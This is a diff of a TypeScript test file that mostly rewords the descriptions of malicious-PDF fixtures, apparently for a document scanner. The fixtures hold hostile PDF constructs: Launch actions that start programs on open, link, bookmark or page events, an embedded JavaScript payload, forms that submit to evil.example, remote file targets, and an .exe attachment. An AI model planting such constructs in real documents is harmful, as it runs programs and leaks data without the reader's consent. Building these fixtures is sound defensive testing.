@@ -11,84 +11,100 @@ const script = '<</S/JavaScript/JS(app.alert\\(1\\))>>';
 const embedded = toStream('/Type/EmbeddedFile', 'data');
 
 const launches = toBadFiles('pdf', [
-  ['pdf-launch', 'a program at opening', () => withCatalog(`/OpenAction${launch}`)],
-  ['pdf-launch', 'a program by reference', () => withCatalog('/OpenAction 6 0 R', launch)],
   [
     'pdf-launch',
-    'a program by two references',
+    'a program that starts when the file opens',
+    () => withCatalog(`/OpenAction${launch}`),
+  ],
+  [
+    'pdf-launch',
+    'a program in a referenced action',
+    () => withCatalog('/OpenAction 6 0 R', launch),
+  ],
+  [
+    'pdf-launch',
+    'a program behind two references',
     () => withCatalog('/OpenAction 6 0 R', '7 0 R', launch),
   ],
-  ['pdf-launch', 'a program behind a link', () => withAnnotation(`/Subtype/Link/A${launch}`)],
+  ['pdf-launch', 'a program that a link starts', () => withAnnotation(`/Subtype/Link/A${launch}`)],
   [
     'pdf-launch',
-    'a program behind a bookmark',
+    'a program that a bookmark starts',
     () => withCatalog('/Outlines<</First 6 0 R/Last 6 0 R>>', `<</Title(a)/A${launch}>>`),
   ],
-  ['pdf-launch', 'a program of the page', () => withPage(`/AA<</O${launch}>>`)],
+  ['pdf-launch', 'a program that starts when the page opens', () => withPage(`/AA<</O${launch}>>`)],
   [
     'pdf-launch',
-    'a program of a mouse button',
+    'a program that a mouse button starts',
     () => withAnnotation(`/Subtype/Widget/AA<</D${launch}>>`),
   ],
   [
     'pdf-launch',
-    'a program of the next step',
+    'a program in the next presentation step',
     () => withPage('/PresSteps 6 0 R', `<</NA${launch}>>`),
   ],
   [
     'pdf-launch',
-    'a program of the step before',
+    'a program in the previous presentation step',
     () => withPage('/PresSteps 6 0 R', `<</PA${launch}>>`),
   ],
   [
     'pdf-launch',
-    'a program after a jump',
+    'a program that starts after a GoTo action',
     () => withCatalog(`/OpenAction<</S/GoTo/D[3 0 R/Fit]/Next${launch}>>`),
   ],
   [
     'pdf-launch',
-    'a program among the next actions',
+    'a program in a list of next actions',
     () => withCatalog(`/OpenAction<</S/GoTo/D[3 0 R/Fit]/Next[<</S/Named/N/NextPage>>${launch}]>>`),
   ],
   [
     'pdf-launch',
-    'a program among the scripts',
+    'a program in the list of document scripts',
     () => withCatalog(`/Names<</JavaScript<</Kids[<</Names[(a)${launch}]>>]>>>>`),
   ],
   [
     'pdf-launch',
-    'a program and an attachment',
+    'a program together with an attachment',
     () => withCatalog(`/OpenAction${launch}/AF[<</EF<</F 6 0 R>>>>]`, embedded),
   ],
 ]);
 
 const automatic = toBadFiles('pdf', [
-  ['pdf-sends-itself', 'an address at opening', () => withCatalog(`/OpenAction${address}`)],
-  ['pdf-sends-itself', 'an address of the page', () => withPage(`/AA<</O${address}>>`)],
-  ['pdf-sends-itself', 'an address at printing', () => withCatalog(`/AA<</WP 6 0 R>>`, address)],
   [
     'pdf-sends-itself',
-    'an address under the mouse',
+    'a URL that opens with the file',
+    () => withCatalog(`/OpenAction${address}`),
+  ],
+  ['pdf-sends-itself', 'a URL that opens with the page', () => withPage(`/AA<</O${address}>>`)],
+  [
+    'pdf-sends-itself',
+    'a URL that opens before printing',
+    () => withCatalog(`/AA<</WP 6 0 R>>`, address),
+  ],
+  [
+    'pdf-sends-itself',
+    'a URL that opens when the pointer enters a field',
     () => withAnnotation(`/Subtype/Widget/AA<</E${address}>>`),
   ],
   [
     'pdf-sends-itself',
-    'a form that sends itself at opening',
+    'a form that is submitted when the file opens',
     () => withCatalog('/OpenAction<</S/SubmitForm/F(https://evil.example)>>'),
   ],
   [
     'pdf-sends-itself',
-    'data imported at opening',
+    'form data that is imported when the file opens',
     () => withCatalog('/OpenAction<</S/ImportData/F(a.fdf)>>'),
   ],
   [
     'pdf-remote-target',
-    'another file at opening',
+    'another file that opens with the file',
     () => withCatalog('/OpenAction<</S/GoToR/F(//evil.example/a.pdf)/D[0/Fit]>>'),
   ],
   [
     'pdf-remote-target',
-    'an attached file at opening',
+    'an attached file that opens with the file',
     () => withCatalog('/OpenAction<</S/GoToE/D[0/Fit]/T<</R/C/N(a.pdf)>>>>'),
   ],
 ]);
@@ -98,7 +114,7 @@ const media = toBadFiles('pdf', [
     (type) =>
       [
         'pdf-media',
-        `the action ${type} behind a click`,
+        `an action ${type} that starts after a click`,
         () => withAnnotation(`/Subtype/Screen/A<</S/${type}>>`),
       ] as const,
   ),
@@ -108,7 +124,7 @@ const media = toBadFiles('pdf', [
         ['pdf-media', `an annotation ${type}`, () => withAnnotation(`/Subtype/${type}`)],
         [
           'pdf-media',
-          `an annotation ${type} without a place`,
+          `an annotation ${type} without a rectangle`,
           () => withPage('/Annots 6 0 R', '[7 0 R]', `<</Subtype/${type}>>`),
         ],
       ] as const,
@@ -120,7 +136,7 @@ const attachments = toBadFiles('pdf', [
     (key) =>
       [
         'pdf-attachment',
-        `an attachment by name, under ${key}`,
+        `a named attachment with the key ${key}`,
         () =>
           withCatalog(
             '/Names<</EmbeddedFiles<</Names[(a)6 0 R]>>>>',
@@ -136,33 +152,41 @@ const attachments = toBadFiles('pdf', [
   ],
   [
     'pdf-attachment',
-    'a file behind a paper clip',
+    'a file attachment annotation',
     () => withAnnotation('/Subtype/FileAttachment/FS(a.exe)'),
   ],
 ]);
 
 const strict = toStrictPdfs([
-  ['pdf-script', 'a script at opening', () => withCatalog(`/OpenAction${script}`)],
-  ['pdf-script', 'a script behind a link', () => withAnnotation(`/Subtype/Link/A${script}`)],
-  ['pdf-script', 'a script of a field', () => withAnnotation(`/Subtype/Widget/AA<</C${script}>>`)],
   [
     'pdf-script',
-    'a script by name',
+    'a script that runs when the file opens',
+    () => withCatalog(`/OpenAction${script}`),
+  ],
+  ['pdf-script', 'a script that a link runs', () => withAnnotation(`/Subtype/Link/A${script}`)],
+  [
+    'pdf-script',
+    'a script that a form field runs',
+    () => withAnnotation(`/Subtype/Widget/AA<</C${script}>>`),
+  ],
+  [
+    'pdf-script',
+    'a named document script',
     () => withCatalog('/Names 6 0 R', `<</JavaScript<</Names[(a)${script}]>>>>`),
   ],
   [
     'pdf-script',
-    'a script among packed objects',
+    'a script in an object stream',
     () => withCatalog(`/OpenAction${script}`, toObjectStream([[9, script]])),
   ],
   [
     'pdf-xfa',
-    'a form in XML',
+    'an XFA form in one stream',
     () => withCatalog('/AcroForm<</Fields[]/XFA 6 0 R>>', toStream('', '<xdp/>')),
   ],
   [
     'pdf-xfa',
-    'a form in packets of XML',
+    'an XFA form in several packets',
     () => withCatalog('/AcroForm<</Fields[]/XFA[(template)6 0 R]>>', embedded),
   ],
   ...readdirSync(folder)
@@ -171,7 +195,7 @@ const strict = toStrictPdfs([
       (name) =>
         [
           'pdf-script',
-          `a script in a PDF that opens without its password, ${name}`,
+          `a script in an encrypted PDF, ${name}`,
           () => readFileSync(new URL(name, folder)),
         ] as const,
     ),
